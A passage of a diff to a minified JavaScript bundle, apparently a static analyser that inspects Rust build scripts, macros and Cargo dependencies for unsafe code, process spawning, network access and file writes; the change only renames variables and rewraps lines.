-before2]=[tokens[at2],tokens[at2-1]];if(token2?.kind==="open"&&!/^(?:all|any|cfg|not|target)$/.test(before2?.text??"")||isMark(token2,"::")&&!/^(?:clippy|rustc|rustdoc)$/.
-test(before2?.text??"")||token2?.kind==="mark"&&!/^(?:::|,|=)$/.test(token2.text))return!1}return!0}function isNameOfToken(tokens,{from,to}){const given2=tokens.
+before3]=[tokens[at2],tokens[at2-1]];if(token2?.kind==="open"&&!/^(?:all|any|cfg|not|target)$/.test(before3?.text??"")||isMark(token2,"::")&&!/^(?:clippy|rustc|rustdoc)$/.
+test(before3?.text??"")||token2?.kind==="mark"&&!/^(?:::|,|=)$/.test(token2.text))return!1}return!0}function isNameOfToken(tokens,{from,to}){const given2=tokens.
 slice(from,to);return given2.every(({kind})=>kind==="mark")||given2.length===1&&/^[a-z_]+$/.test(given2[0]?.text??"")}function leftOut(file2,quotes,invoked){const{
 source,items}=file2,{tokens}=source,out=new Uint8Array(tokens.length);for(const{keyword,body}of[...items.functions,...items.modules,...items.owners])body!==null&&
 isTestOnly(source,keyword)&&out.fill(1,keyword,body.to);for(const{name,body}of items.macros)invoked.has(name)||out.fill(1,body.from,body.to);for(const[at2,token2]of tokens.
@@ -2749,23 +2750,23 @@ kind==="close"?isMark(tokens[token2.partner-1],"$"):token2?.kind==="open"&&isMar
 reading);return reading.words(word2=>{(isUnseen(word2,step)||isStrangeRoot(word2,roots,reading)||isStrangeMacro(word2,reading))&&found12.push(evidence("unknown",
 word2))}),[...found12,...reading.files.flatMap(imports),...builtPaths(reading)]}var UNSEEN_MACROS=/^(?:asm|concat_bytes|concat_idents|global_asm|llvm_asm|naked_asm)$/,
 UNSEEN_ATTRIBUTES=/^(?:export_name|global_allocator|link|link_args|link_name|link_section|naked|no_mangle|used)$/;function isUnseen({file:file2,at:at2,text:text3},step){
-const{tokens}=file2.source,token2=tokens[at2],[before2,next2]=[tokens[at2-1],tokens[at2+1]];return isKeyword(token2,"unsafe")?step!=="proc-macro":/^transmute(?:_copy|_unchecked)?$/.
+const{tokens}=file2.source,token2=tokens[at2],[before3,next2]=[tokens[at2-1],tokens[at2+1]];return isKeyword(token2,"unsafe")?step!=="proc-macro":/^transmute(?:_copy|_unchecked)?$/.
 test(text3)?!0:isKeyword(token2,"extern")?!isKeyword(next2,"crate"):UNSEEN_MACROS.test(text3)?isMark(next2,"!"):UNSEEN_ATTRIBUTES.test(text3)?isInAttribute(file2,
-at2)&&isBuiltInAttribute(tokens,at2):text3==="os"?isMark(next2,"::")&&isMark(before2,"::")&&!isPlainOs(file2,at2):text3==="arch"||text3==="intrinsics"?isMark(before2,
+at2)&&isBuiltInAttribute(tokens,at2):text3==="os"?isMark(next2,"::")&&isMark(before3,"::")&&!isPlainOs(file2,at2):text3==="arch"||text3==="intrinsics"?isMark(before3,
 "::")&&/^(?:std|core)$/.test(tokens[at2-2]?.text??""):!1}function isBuiltInAttribute(tokens,at2){const open=tokens[at2]?.parent??-1;return isOpen(tokens[open],"\
 [")?!0:/^(?:cfg_attr|unsafe)$/.test(tokens[open-1]?.text??"")}function isPlainOs({source},at2){const{tokens}=source,[first,second]=[tokens[at2+2]?.text??"",tokens[at2+
 4]?.text??""];return first==="raw"||/^(?:unix|windows|wasi)$/.test(first)&&second==="ffi"}var BEFORE_PATHS=/^(?:as|await|break|dyn|else|for|if|impl|in|let|match|move|mut|pub|ref|return|use|where|while)$/,
 STD=new Set(["std","core","alloc","proc_macro","self","Self","super","crate","test"]),TYPES=/^(?:[iu](?:8|16|32|64|128|size)|f32|f64|str|char|bool)$/;function knownRoots({
 files,callable:callable2}){const own=files.flatMap(({items})=>[...items.modules.map(({name})=>name),...items.imports.map(({as})=>as),...items.functions.map(({name})=>name)]);
 return new Set([...STD,...callable2.keys(),...own])}function isStrangeRoot({file:file2,at:at2,text:text3},roots,{callable:callable2}){const{tokens}=file2.source,
-[before2,next2]=[tokens[at2-1],tokens[at2+1]];return isKeyword(before2,"crate")&&isKeyword(tokens[at2-2],"extern")?!STD.has(text3)&&!callable2.has(text3):!/^[a-z_]/.
-test(text3)||BEFORE_PATHS.test(text3)||!isMark(next2,"::")||isMark(tokens[at2+2],"<")||tokens[at2]?.end!==next2?.start||isMark(before2,":")&&isMark(tokens[at2-3],
-"$")||!(!isMark(before2,"::")&&!isMark(before2,".")&&!isMark(before2,"$"))||roots.has(text3)||TYPES.test(text3)?!1:!(isInUse({file:file2,at:at2})&&isInGroup(file2,
+[before3,next2]=[tokens[at2-1],tokens[at2+1]];return isKeyword(before3,"crate")&&isKeyword(tokens[at2-2],"extern")?!STD.has(text3)&&!callable2.has(text3):!/^[a-z_]/.
+test(text3)||BEFORE_PATHS.test(text3)||!isMark(next2,"::")||isMark(tokens[at2+2],"<")||tokens[at2]?.end!==next2?.start||isMark(before3,":")&&isMark(tokens[at2-3],
+"$")||!(!isMark(before3,"::")&&!isMark(before3,".")&&!isMark(before3,"$"))||roots.has(text3)||TYPES.test(text3)?!1:!(isInUse({file:file2,at:at2})&&isInGroup(file2,
 at2))&&!mayBeBrought(file2,callable2)}function mayBeBrought({items},callable2){return[...callable2.values()].every(known13=>known13!=="unknown")&&items.imports.
 some(({path,as})=>as==="*"&&callable2.has(path[0]??""))}function isInGroup({source},at2){const{tokens}=source,open=tokens[at2]?.parent??-1;return isOpen(tokens[open],
 "{")&&isMark(tokens[open-1],"::")}var NEGATED=/^(?:else|if|in|match|return|while)$/;function isStrangeMacro({file:file2,at:at2,text:text3},{files,callable:callable2}){
-const{tokens}=file2.source,[before2,next2,after2]=[tokens[at2-1],tokens[at2+1],tokens[at2+2]];return!isMark(next2,"!")||after2?.kind!=="open"&&text3!=="macro_ru\
-les"||isMark(before2,"::")||isMark(before2,".")||BUILT_IN_MACROS.has(text3)||NEGATED.test(text3)?!1:!files.some(({items,source})=>items.macros.some(({name})=>name===
+const{tokens}=file2.source,[before3,next2,after2]=[tokens[at2-1],tokens[at2+1],tokens[at2+2]];return!isMark(next2,"!")||after2?.kind!=="open"&&text3!=="macro_ru\
+les"||isMark(before3,"::")||isMark(before3,".")||BUILT_IN_MACROS.has(text3)||NEGATED.test(text3)?!1:!files.some(({items,source})=>items.macros.some(({name})=>name===
 text3)||items.imports.some(({path,as})=>(as===text3||as==="*")&&callable2.has(path[0]??""))||items.imports.some(({as})=>as===text3)||source.tokens.some(token2=>isKeyword(
 token2,"macro_use")))}function imports(file2){return file2.items.imports.flatMap(({path,as})=>!(/^(?:std|core|alloc)$/.test(path[0]??"")||path.some(name=>REACHING.
 has(name)&&name!=="ffi"))||as==="_"||!path.some((name,at2)=>REACHING.has(name)||at2===0&&path.length===1&&as==="*")?[]:!(as!=="*"&&as!==path.at(-1))&&as!=="*"?[]:
@@ -2779,8 +2780,8 @@ word2,reading);seen!==void 0&&found12.push(evidence(seen,word2))}),found12.lengt
 let found12=!1;return reading.words(({text:text3})=>{found12||=text3==="process"||text3==="tokio"||text3==="async_process"}),found12||reading.files.some(({items})=>items.
 imports.some(({path,as})=>as==="*"&&path[0]==="std"))}function commandNames({files}){const imports2=files.flatMap(({items})=>items.imports);return new Set(["Com\
 mand",...imports2.flatMap(({path,as})=>path.at(-1)==="Command"&&as!=="_"?[as]:[])])}function isOfAnother({file:file2,at:at2,text:text3},{callable:callable2}){const{
-tokens}=file2.source;if(isMark(tokens[at2-1],"::")){const before2=tokens[at2-2]?.text??"";return/^[A-Z]/.test(before2)||callable2.has(before2)&&!file2.items.imports.
-some(({as})=>as===before2)}const own=file2.items.imports.filter(({as,path})=>as===text3||as==="*"&&path.includes("process"));return own.length===0&&file2.items.
+tokens}=file2.source;if(isMark(tokens[at2-1],"::")){const before3=tokens[at2-2]?.text??"";return/^[A-Z]/.test(before3)||callable2.has(before3)&&!file2.items.imports.
+some(({as})=>as===before3)}const own=file2.items.imports.filter(({as,path})=>as===text3||as==="*"&&path.includes("process"));return own.length===0&&file2.items.
 types.has(text3)?!0:own.length>0&&own.every(({path})=>callable2.has(path[0]??""))}function classAt({file:file2,at:at2},reading){const{tokens}=file2.source,next2=tokens[at2+
 1];if(isMark(next2,"::")&&tokens[at2+2]?.text==="new"){if(!isOpen(tokens[at2+3],"("))return"unknown";const[program2]=argumentsAt(file2.source,at2+3);if(program2===
 void 0)return"reaches";const origins=originsOf({file:file2,stretch:program2},reading.bindings);return origins.texts.length>0&&origins.texts.every(text3=>text3===
@@ -2789,9 +2790,9 @@ unknown";if(!isInUse({file:file2,at:at2}))return isType(tokens,at2)?void 0:"unkn
 tokens[end],".")&&tokens[end+1]?.text==="args"&&isOpen(tokens[end+2],"("),[given2]=isWhole3?argumentsAt(file2.source,end+2):[],next2=isWhole3?after(tokens,end+2):
 end;if(given2===void 0||!isMark(tokens[next2],".")||tokens[next2+1]?.text!=="output")return!1;const{texts:texts2,isHidden:isHidden2}=originsOf({file:file2,stretch:given2},
 bindings);return!isHidden2&&texts2.includes("--prefix")&&texts2.every(text3=>ASKING_BREW.test(text3))}function isType(tokens,at2){let from=at2;for(;isMark(tokens[from-
-1],"::")&&tokens[from-2]?.kind==="word";)from-=2;const[before2,next2]=[tokens[from-1],tokens[at2+1]];if(isMark(before2,"<")&&isMark(next2,">")&&isMark(tokens[at2+
-2],"::"))return!1;const isAfterMark=[":","&","->","<"].some(mark=>isMark(before2,mark)),isLast=isMark(before2,",")&&isMark(next2,">");return isAfterMark||isLast||
-isKeyword(before2,"mut")||before2?.kind==="lifetime"}function programClass({texts:texts2,isHidden:isHidden2}){if(isHidden2||texts2.length===0)return"reaches";const isNative2=text3=>NATIVE.
+1],"::")&&tokens[from-2]?.kind==="word";)from-=2;const[before3,next2]=[tokens[from-1],tokens[at2+1]];if(isMark(before3,"<")&&isMark(next2,">")&&isMark(tokens[at2+
+2],"::"))return!1;const isAfterMark=[":","&","->","<"].some(mark=>isMark(before3,mark)),isLast=isMark(before3,",")&&isMark(next2,">");return isAfterMark||isLast||
+isKeyword(before3,"mut")||before3?.kind==="lifetime"}function programClass({texts:texts2,isHidden:isHidden2}){if(isHidden2||texts2.length===0)return"reaches";const isNative2=text3=>NATIVE.
 test(text3.replace(/^\/usr\/bin\//,""))||/^[A-Z0-9_]+_(?:AR|CC|CLANG|CXX)$/.test(text3);return texts2.every(text3=>COMPILER.test(text3))?texts2.some(text3=>text3!==
 "")?"probe":"reaches":texts2.every(text3=>COMPILER.test(text3)||isNative2(text3))?"native":"reaches"}function argumentsThatLead(reading){const found12=[];return reading.
 words(({file:file2,at:at2,text:text3})=>{const{tokens}=file2.source;if(!(text3!=="arg"&&text3!=="args"||!isMark(tokens[at2-1],".")||!isOpen(tokens[at2+1],"(")))
@@ -2805,10 +2806,10 @@ return reading.words(word2=>{const seen=classOfWord(word2,reading);seen!==void 0
 ...hasData.bytes.map(word2=>evidence(hasData.program?"reaches":"unknown",word2))),[...found12,...instructions(reading)]}function classOfWord(word2,reading){const{
 file:file2,at:at2,text:text3}=word2,{tokens}=file2.source;if(REACHING2.test(text3)||text3==="net"&&isPartOfStd(word2)||DECODING.test(text3)&&(isMark(tokens[at2+
 1],"::")||isOpen(tokens[at2+1],"(")))return"reaches";if(/^from_utf8(?:_lossy|_unchecked)?$/.test(text3)&&isOpen(tokens[at2+1],"("))return decoded(word2,reading);
-const called3=reading.callable.get(text3);if(!(called3===void 0||!isCalled(word2)))return called3==="probe"?void 0:called3}function isPartOfStd({file:file2,at:at2}){
+const called4=reading.callable.get(text3);if(!(called4===void 0||!isCalled(word2)))return called4==="probe"?void 0:called4}function isPartOfStd({file:file2,at:at2}){
 const{tokens}=file2.source;return file2.items.modules.some(({name})=>name==="net")?!1:isMark(tokens[at2-1],"::")||isMark(tokens[at2+1],"::")||isInUse({file:file2,
-at:at2})}function isCalled({file:file2,at:at2}){const{tokens}=file2.source,[before2,next2]=[tokens[at2-1],tokens[at2+1]];return isMark(before2,".")||isMark(before2,
-"::")&&tokens[at2-2]?.kind==="word"?!1:isMark(next2,"::")||isKeyword(before2,"use")||isKeyword(before2,"crate")||isInUse({file:file2,at:at2})}function decoded({
+at:at2})}function isCalled({file:file2,at:at2}){const{tokens}=file2.source,[before3,next2]=[tokens[at2-1],tokens[at2+1]];return isMark(before3,".")||isMark(before3,
+"::")&&tokens[at2-2]?.kind==="word"?!1:isMark(next2,"::")||isKeyword(before3,"use")||isKeyword(before3,"crate")||isInUse({file:file2,at:at2})}function decoded({
 file:file2,at:at2},reading){const[given2]=argumentsAt(file2.source,at2+1);if(given2!==void 0)return originsOf({file:file2,stretch:given2},nearby(reading.bindings)).
 madeOfNumbers?"reaches":void 0}function instructions(reading){return reading.files.flatMap(file2=>file2.source.tokens.flatMap(({kind,text:text3},at2)=>{if(kind!==
 "text"&&kind!=="bytes"||!text3.includes("cargo:"))return[];if(STARTED.test(text3)){const seen=isOfMachine({file:file2,at:at2,text:text3},reading)?"native":"reac\
@@ -2837,10 +2838,10 @@ ink",1],["symlink_file",1],["symlink_dir",1],["remove_file",0],["remove_dir",0],
 function writes(reading){const found12=[],makers=makersIn(reading.files);return reading.words(word2=>{const place=placeOfPath(word2,makers);if(place===void 0)return;
 const{file:file2,at:at2}=word2;if(!isOpen(file2.source.tokens[at2+1],"(")){found12.push(evidence("unknown",word2));return}const path=argumentsAt(file2.source,at2+
 1)[place];if(path===void 0)return;const origins=originsOf({file:file2,stretch:path},reading.bindings);found12.push(evidence(isHarmless(word2,origins)?"generate":
-classOf3(origins,reading),word2))}),found12}function placeOfPath({file:file2,at:at2,text:text3},makers){const{tokens}=file2.source,before2=isMark(tokens[at2-1],
-"::")?tokens[at2-2]?.text:void 0,maker2=before2===">"?tokens[at2-3]?.text:before2;if(CREATES.has(text3)&&makers.has(maker2??"")||text3==="open"&&isMark(tokens[at2-
+classOf3(origins,reading),word2))}),found12}function placeOfPath({file:file2,at:at2,text:text3},makers){const{tokens}=file2.source,before3=isMark(tokens[at2-1],
+"::")?tokens[at2-2]?.text:void 0,maker2=before3===">"?tokens[at2-3]?.text:before3;if(CREATES.has(text3)&&makers.has(maker2??"")||text3==="open"&&isMark(tokens[at2-
 1],".")&&makesOptions(file2)||text3==="create"&&isMark(tokens[at2-1],".")&&makesFolders(file2))return 0;const place=CHANGES.get(text3);return place===void 0?void 0:
-before2!==void 0?/^(?:fs|fs_err|unix|windows)$/.test(before2)&&!isInUse({file:file2,at:at2})?place:void 0:file2.items.imports.some(({path,as})=>as===text3&&path.
+before3!==void 0?/^(?:fs|fs_err|unix|windows)$/.test(before3)&&!isInUse({file:file2,at:at2})?place:void 0:file2.items.imports.some(({path,as})=>as===text3&&path.
 at(-2)==="fs")&&!isInUse({file:file2,at:at2})&&!isMark(tokens[at2-1],".")?place:void 0}var LONGEST_ALIAS=64;function makersIn(files){const makers=new Set(["File",
 "DirBuilder"]);for(const{source}of files)for(const[at2,token2]of source.tokens.entries()){const name=source.tokens[at2+1];if(!isKeyword(token2,"type")||name?.kind!==
 "word")continue;const end=indexOfMark(source.tokens,";",{from:at2,to:at2+LONGEST_ALIAS});/^(?:File|DirBuilder)$/.test(source.tokens[end-1]?.text??"")&&makers.add(
@@ -2878,54 +2879,54 @@ void 0)return new Condition(condition,platform).whole();const named12=TRIPLES.fi
 void 0:!1}var Condition=class{#tokens;#platform;#at=0;#isTooDeep=!1;constructor(text3,platform){this.#tokens=text3.match(/[A-Za-z_][A-Za-z0-9_]*|"[^"]*"|[(),=]/g)??
 [],this.#platform=platform}whole(){const found12=this.#read(0);return this.#isTooDeep?void 0:found12}#read(depth){if(depth>DEEPEST4){this.#isTooDeep=!0,this.#at=
 this.#tokens.length;return}const name=this.#next();if(this.#takes("="))return this.#hasValue(name,this.#next().replaceAll('"',""));if(!this.#takes("("))return this.#isSet(
-name);const parts=[];for(;this.#at<this.#tokens.length&&!this.#takes(")");)parts.push(this.#read(depth+1)),this.#takes(",");return joined4(name,parts)}#next(){const token2=this.#tokens[this.#at]??
-"";return this.#at+=1,token2}#takes(token2){return this.#tokens[this.#at]!==token2?!1:(this.#at+=1,!0)}#hasValue(name,value){if(name==="target_os")return value===
-OS[this.#platform];if(name==="target_family")return value===(this.#platform==="windows"?"windows":"unix");if(name==="target_vendor"&&value==="apple")return this.#platform===
-"macOS"||this.#platform==="iOS"}#isSet(name){if(name==="true"||name==="false")return name==="true";if(name==="windows")return this.#platform==="windows";if(name===
-"unix")return this.#platform!=="windows"}};function joined4(name,parts){if(name==="not")return parts[0]===void 0?void 0:!parts[0];if(name==="all")return parts.includes(
-!1)?!1:parts.includes(void 0)?void 0:!0;if(name==="any")return parts.includes(!0)?!0:parts.includes(void 0)?void 0:!1}function isProcMacro(lib){const types=member(
-lib,"crate-type")??member(lib,"crate_type");return types!==void 0?itemsOf(types).some(type=>asString(type)==="proc-macro"):["proc-macro","proc_macro"].some(key3=>{
-const value=member(lib,key3);return value?.kind==="boolean"&&value.value})}function dependenciesOf(crate2,root){return crate2.dependencies.map(entry=>dependencyOf(
-entry,crate2,root))}function dependencyOf(entry,crate2,root){const{name,value}=entry;if(asBoolean(member(value,"workspace"))!==!0)return{...entry,...readEntry(name,
-value,crate2)};const shared2=pick(root?.value,"workspace","dependencies",name),own={features:featuresIn(value),isOptional:asBoolean(member(value,"optional"))===
-!0};if(root===void 0||shared2===void 0)return{...entry,...own,crate:name,source:{kind:"nowhere"},requirement:void 0,usesDefaults:!0};const inherited2=readEntry(
-name,shared2,root);return{...entry,...inherited2,...own,features:[...own.features,...inherited2.features],usesDefaults:inherited2.usesDefaults||defaultsIn(value)===
-!0}}function readEntry(name,value,{folder}){return{crate:asString(member(value,"package"))??name,source:sourceOf(value,folder),requirement:asString(value)??asString(
-member(value,"version")),features:featuresIn(value),usesDefaults:defaultsIn(value)!==!1,isOptional:asBoolean(member(value,"optional"))===!0}}function sourceOf(value,folder){
-const path=asString(member(value,"path"));if(path!==void 0)return{kind:"path",folder:joined(folder,path),written:path};const url=asString(member(value,"git"));return url!==
-void 0?{kind:"git",url,reference:referenceOf(value)}:{kind:"registry",name:asString(member(value,"registry"))??null,index:asString(member(value,"registry-index"))??
-null}}function referenceOf(value){const key3=["branch","tag","rev"].find(each=>member(value,each)!==void 0);return key3===void 0?"":`${key3}=${asString(member(value,
-key3))??""}`}function featuresIn(value){return stringsOf(member(value,"features"))}function defaultsIn(value){return asBoolean(member(value,"default-features")??
-member(value,"default_features"))}var MAX_DEPTH=200,MOST_PACKAGES=5e4,Unreadable=class extends Error{offset;constructor(message,offset){super(message),this.offset=
-offset}};function refuseDepth(depth,offset){if(depth>MAX_DEPTH)throw new Unreadable(`Values are nested more than ${MAX_DEPTH} levels deep.`,offset)}function refuseCrowd(text3,signs,limit){
-if(text3.length<=limit)return;const counted2=new Set(Array.from(signs,sign=>sign.charCodeAt(0)));let seen=0;for(let offset=0;offset<text3.length;offset++)if(counted2.
-has(text3.charCodeAt(offset))&&(seen++,seen>limit))throw new Unreadable(`The file holds more than ${limit} values.`,offset)}var[SPACE3,QUOTE2,SLASH,ZERO,NINE,BACKSLASH,
-BEYOND_ASCII]=[32,34,47,48,57,92,128],JsonScanner=class{offset=0;#text;#json5;#hasSurrogates;constructor(text3,dialect){this.#text=text3,this.#json5=dialect==="\
-json5",this.#hasSurrogates=SURROGATE.test(text3)}skipSpace(){const next2=this.#text.charCodeAt(this.offset);if(next2>SPACE3&&next2<BEYOND_ASCII&&next2!==SLASH)return this.
-offset;if(!this.#json5){let end=this.offset;for(;isSpace(this.#text.charCodeAt(end));)end++;return this.offset=end,end}for(;;)if(this.#match(JSON5_SPACE),!this.#skipComment())
-return this.offset}peek(){return this.#text.charAt(this.offset)}accept(sign){return this.skipSpace(),this.peek()!==sign?!1:(this.offset++,!0)}expect(sign){if(!this.
-accept(sign))throw this.#unexpected(`Expected \`${sign}\``)}end(){if(this.skipSpace(),this.offset<this.#text.length)throw this.#unexpected("Expected the end of \
-the file")}key(){const quote=this.peek();if(quote==='"'||this.#json5&&quote==="'")return this.string();const start=this.offset,name=this.#json5?this.#match(IDENTIFIER):
-"";if(name==="")throw this.#unexpected("Expected a key");const plain8=name.replace(UNICODE_ESCAPE,(_3,code2)=>String.fromCharCode(Number.parseInt(code2,16)));if(plain8.
-includes("\\"))throw new Unreadable("A key holds an invalid escape.",start);return plain8}string(){const start=this.offset,quote=this.peek();if(quote==="'"&&!this.#json5)
-throw this.#unexpected("Expected a value");this.offset++;let value="";for(;;){value+=this.#json5?this.#match(quote==='"'?JSON5_DOUBLE:JSON5_SINGLE):this.#plainText();
-const next2=this.peek();if(next2===quote)break;if(next2==="")throw new Unreadable("A string doesn't end.",start);if(next2!=="\\")throw new Unreadable("A string \
-holds a line break or control character.",this.offset);value+=this.#escape()}if(this.offset++,!this.#json5&&this.#hasSurrogates&&!value.isWellFormed())throw new Unreadable(
-"A string holds half of a surrogate pair.",start);return value}literal(){const start=this.offset,digits2=this.#digits();if(digits2!==void 0)return digits2;const word2=this.#match(
-WORD2),known13=WORDS2.get(word2);if(known13!==void 0)return known13;const value=this.#json5?json5Number(word2):jsonNumber(word2);if(value!==void 0)return value;
-throw this.offset=start,this.#unexpected("Expected a value")}#skipComment(){if(this.#text.startsWith("//",this.offset))return LINE_BREAK.lastIndex=this.offset,this.
-offset=LINE_BREAK.exec(this.#text)?.index??this.#text.length,!0;if(!this.#text.startsWith("/*",this.offset))return!1;const end=this.#text.indexOf("*/",this.offset+
-2);if(end<0)throw new Unreadable("A comment doesn't end.",this.offset);return this.offset=end+2,!0}#escape(){const start=this.offset,found12=this.#match(this.#json5?
-JSON5_ESCAPE:JSON_ESCAPE);if(found12==="")throw new Unreadable("A string holds an invalid escape.",start);const letter=found12.charAt(1);return letter==="u"||letter===
-"x"?String.fromCharCode(Number.parseInt(found12.slice(2),16)):ESCAPES2.get(letter)??(CONTINUES.test(letter)?"":found12.slice(1))}#plainText(){const start=this.offset;
-let end=start;for(;end<this.#text.length;end++){const next2=this.#text.charCodeAt(end);if(next2===QUOTE2||next2===BACKSLASH||next2<SPACE3)break}return this.offset=
-end,this.#text.slice(start,end)}#digits(){let value=0,end=this.offset;for(;end-this.offset<MOST_DIGITS;end++){const next2=this.#text.charCodeAt(end);if(!(next2>=
-ZERO&&next2<=NINE))break;value=value*10+next2-ZERO}const isWhole3=ENDS_NUMBER.has(this.#text.charAt(end)),leadsWithZero=this.#text.charCodeAt(this.offset)===ZERO&&
-end>this.offset+1;if(!(end===this.offset||!isWhole3||leadsWithZero))return this.offset=end,value}#match(pattern){const start=this.offset;return pattern.lastIndex=
-start,pattern.test(this.#text)?(this.offset=pattern.lastIndex,this.#text.slice(start,this.offset)):""}#unexpected(wanted){const found12=this.#text.codePointAt(this.
-offset);return found12===void 0?new Unreadable(`${wanted}, but the file ends.`,this.offset):found12===BYTE_ORDER_MARK&&this.offset===0?new Unreadable("The file \
-begins with a byte order mark, which JSON doesn't allow: save it without.",0):new Unreadable(`${wanted}, but found ${JSON.stringify(String.fromCodePoint(found12))}\
-.`,this.offset)}},BYTE_ORDER_MARK=65279,MOST_DIGITS=15,ENDS_NUMBER=new Set([",","]","}"," ",`
+name);const parts2=[];for(;this.#at<this.#tokens.length&&!this.#takes(")");)parts2.push(this.#read(depth+1)),this.#takes(",");return joined4(name,parts2)}#next(){
+const token2=this.#tokens[this.#at]??"";return this.#at+=1,token2}#takes(token2){return this.#tokens[this.#at]!==token2?!1:(this.#at+=1,!0)}#hasValue(name,value){
+if(name==="target_os")return value===OS[this.#platform];if(name==="target_family")return value===(this.#platform==="windows"?"windows":"unix");if(name==="target\
+_vendor"&&value==="apple")return this.#platform==="macOS"||this.#platform==="iOS"}#isSet(name){if(name==="true"||name==="false")return name==="true";if(name==="\
+windows")return this.#platform==="windows";if(name==="unix")return this.#platform!=="windows"}};function joined4(name,parts2){if(name==="not")return parts2[0]===
+void 0?void 0:!parts2[0];if(name==="all")return parts2.includes(!1)?!1:parts2.includes(void 0)?void 0:!0;if(name==="any")return parts2.includes(!0)?!0:parts2.includes(
+void 0)?void 0:!1}function isProcMacro(lib){const types=member(lib,"crate-type")??member(lib,"crate_type");return types!==void 0?itemsOf(types).some(type=>asString(
+type)==="proc-macro"):["proc-macro","proc_macro"].some(key3=>{const value=member(lib,key3);return value?.kind==="boolean"&&value.value})}function dependenciesOf(crate2,root){
+return crate2.dependencies.map(entry=>dependencyOf(entry,crate2,root))}function dependencyOf(entry,crate2,root){const{name,value}=entry;if(asBoolean(member(value,
+"workspace"))!==!0)return{...entry,...readEntry(name,value,crate2)};const shared2=pick(root?.value,"workspace","dependencies",name),own={features:featuresIn(value),
+isOptional:asBoolean(member(value,"optional"))===!0};if(root===void 0||shared2===void 0)return{...entry,...own,crate:name,source:{kind:"nowhere"},requirement:void 0,
+usesDefaults:!0};const inherited2=readEntry(name,shared2,root);return{...entry,...inherited2,...own,features:[...own.features,...inherited2.features],usesDefaults:inherited2.
+usesDefaults||defaultsIn(value)===!0}}function readEntry(name,value,{folder}){return{crate:asString(member(value,"package"))??name,source:sourceOf(value,folder),
+requirement:asString(value)??asString(member(value,"version")),features:featuresIn(value),usesDefaults:defaultsIn(value)!==!1,isOptional:asBoolean(member(value,
+"optional"))===!0}}function sourceOf(value,folder){const path=asString(member(value,"path"));if(path!==void 0)return{kind:"path",folder:joined(folder,path),written:path};
+const url=asString(member(value,"git"));return url!==void 0?{kind:"git",url,reference:referenceOf(value)}:{kind:"registry",name:asString(member(value,"registry"))??
+null,index:asString(member(value,"registry-index"))??null}}function referenceOf(value){const key3=["branch","tag","rev"].find(each=>member(value,each)!==void 0);
+return key3===void 0?"":`${key3}=${asString(member(value,key3))??""}`}function featuresIn(value){return stringsOf(member(value,"features"))}function defaultsIn(value){
+return asBoolean(member(value,"default-features")??member(value,"default_features"))}var MAX_DEPTH=200,MOST_PACKAGES=5e4,Unreadable=class extends Error{offset;constructor(message,offset){
+super(message),this.offset=offset}};function refuseDepth(depth,offset){if(depth>MAX_DEPTH)throw new Unreadable(`Values are nested more than ${MAX_DEPTH} levels \
+deep.`,offset)}function refuseCrowd(text3,signs,limit){if(text3.length<=limit)return;const counted2=new Set(Array.from(signs,sign=>sign.charCodeAt(0)));let seen=0;
+for(let offset=0;offset<text3.length;offset++)if(counted2.has(text3.charCodeAt(offset))&&(seen++,seen>limit))throw new Unreadable(`The file holds more than ${limit}\
+ values.`,offset)}var[SPACE3,QUOTE2,SLASH,ZERO,NINE,BACKSLASH,BEYOND_ASCII]=[32,34,47,48,57,92,128],JsonScanner=class{offset=0;#text;#json5;#hasSurrogates;constructor(text3,dialect){
+this.#text=text3,this.#json5=dialect==="json5",this.#hasSurrogates=SURROGATE.test(text3)}skipSpace(){const next2=this.#text.charCodeAt(this.offset);if(next2>SPACE3&&
+next2<BEYOND_ASCII&&next2!==SLASH)return this.offset;if(!this.#json5){let end=this.offset;for(;isSpace(this.#text.charCodeAt(end));)end++;return this.offset=end,
+end}for(;;)if(this.#match(JSON5_SPACE),!this.#skipComment())return this.offset}peek(){return this.#text.charAt(this.offset)}accept(sign){return this.skipSpace(),
+this.peek()!==sign?!1:(this.offset++,!0)}expect(sign){if(!this.accept(sign))throw this.#unexpected(`Expected \`${sign}\``)}end(){if(this.skipSpace(),this.offset<
+this.#text.length)throw this.#unexpected("Expected the end of the file")}key(){const quote=this.peek();if(quote==='"'||this.#json5&&quote==="'")return this.string();
+const start=this.offset,name=this.#json5?this.#match(IDENTIFIER):"";if(name==="")throw this.#unexpected("Expected a key");const plain8=name.replace(UNICODE_ESCAPE,
+(_3,code2)=>String.fromCharCode(Number.parseInt(code2,16)));if(plain8.includes("\\"))throw new Unreadable("A key holds an invalid escape.",start);return plain8}string(){
+const start=this.offset,quote=this.peek();if(quote==="'"&&!this.#json5)throw this.#unexpected("Expected a value");this.offset++;let value="";for(;;){value+=this.#json5?
+this.#match(quote==='"'?JSON5_DOUBLE:JSON5_SINGLE):this.#plainText();const next2=this.peek();if(next2===quote)break;if(next2==="")throw new Unreadable("A string\
+ doesn't end.",start);if(next2!=="\\")throw new Unreadable("A string holds a line break or control character.",this.offset);value+=this.#escape()}if(this.offset++,
+!this.#json5&&this.#hasSurrogates&&!value.isWellFormed())throw new Unreadable("A string holds half of a surrogate pair.",start);return value}literal(){const start=this.
+offset,digits2=this.#digits();if(digits2!==void 0)return digits2;const word2=this.#match(WORD2),known13=WORDS2.get(word2);if(known13!==void 0)return known13;const value=this.#json5?
+json5Number(word2):jsonNumber(word2);if(value!==void 0)return value;throw this.offset=start,this.#unexpected("Expected a value")}#skipComment(){if(this.#text.startsWith(
+"//",this.offset))return LINE_BREAK.lastIndex=this.offset,this.offset=LINE_BREAK.exec(this.#text)?.index??this.#text.length,!0;if(!this.#text.startsWith("/*",this.
+offset))return!1;const end=this.#text.indexOf("*/",this.offset+2);if(end<0)throw new Unreadable("A comment doesn't end.",this.offset);return this.offset=end+2,!0}#escape(){
+const start=this.offset,found12=this.#match(this.#json5?JSON5_ESCAPE:JSON_ESCAPE);if(found12==="")throw new Unreadable("A string holds an invalid escape.",start);
+const letter=found12.charAt(1);return letter==="u"||letter==="x"?String.fromCharCode(Number.parseInt(found12.slice(2),16)):ESCAPES2.get(letter)??(CONTINUES.test(
+letter)?"":found12.slice(1))}#plainText(){const start=this.offset;let end=start;for(;end<this.#text.length;end++){const next2=this.#text.charCodeAt(end);if(next2===
+QUOTE2||next2===BACKSLASH||next2<SPACE3)break}return this.offset=end,this.#text.slice(start,end)}#digits(){let value=0,end=this.offset;for(;end-this.offset<MOST_DIGITS;end++){
+const next2=this.#text.charCodeAt(end);if(!(next2>=ZERO&&next2<=NINE))break;value=value*10+next2-ZERO}const isWhole3=ENDS_NUMBER.has(this.#text.charAt(end)),leadsWithZero=this.#text.
